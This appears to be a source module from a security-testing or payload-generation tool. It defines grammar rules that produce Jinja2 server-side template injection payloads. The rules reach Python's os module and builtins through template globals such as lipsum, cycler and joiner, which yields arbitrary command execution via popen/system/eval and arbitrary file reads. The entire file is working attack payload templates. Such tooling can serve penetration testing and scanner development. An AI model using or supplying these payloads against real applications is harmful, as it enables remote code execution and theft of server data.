// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of templates
import { templateGenerator } from '../template-generator.js';

/** Jinja: the globals of the functions that it gives to templates. */
export const jinjaGlobals = templateGenerator({
  name: 'jinja-globals',
  engines: ['jinja2'],
  rules: {
    start: [
      '{before}{o}{s}{function}.__globals__{os}.popen({q}{command}{q}).read(){s}{c}{after}',
      '{o} {function}.__globals__.__builtins__.__import__({q}os{q}).popen({q}{command}{q}).read() {c}',
      '{o}{function}.__globals__.__builtins__.open({q}{file}{q}).read(){c}',
      '{l}% set o = {function}.__globals__{os} %{r}{o} o.system({q}{command}{q}) {c}',
      '{l}% with a = {function}.__globals__{os}.popen({q}{command}{q}).read() %{r}{o} a {c}{l}% endwith %{r}',
      '{l}% if {function}.__globals__{os}.popen({q}{command}{q}).read() %{r}x{l}% endif %{r}',
      '{o} {function}.__globals__.__builtins__.eval("__import__({q}os{q}).popen({q}{command}{q}).read()") {c}',
      '{l}% print({function}.__globals__{os}.popen({q}{command}{q}).read()) %{r}',
    ],
    q: ["'"],
    os: ['.os', "['os']", '.get("os")', '["os"]'],
    function: [
      'lipsum',
      'cycler.__init__',
      'joiner.__init__',
      'namespace.__init__',
      'self.__init__',
      'self._TemplateReference__context.cycler.__init__',
      'dict.fromkeys.__self__.__init__',
      'cycler.next',
      'lipsum|attr("__call__")',
      'joiner.__call__',
    ],
  },
});
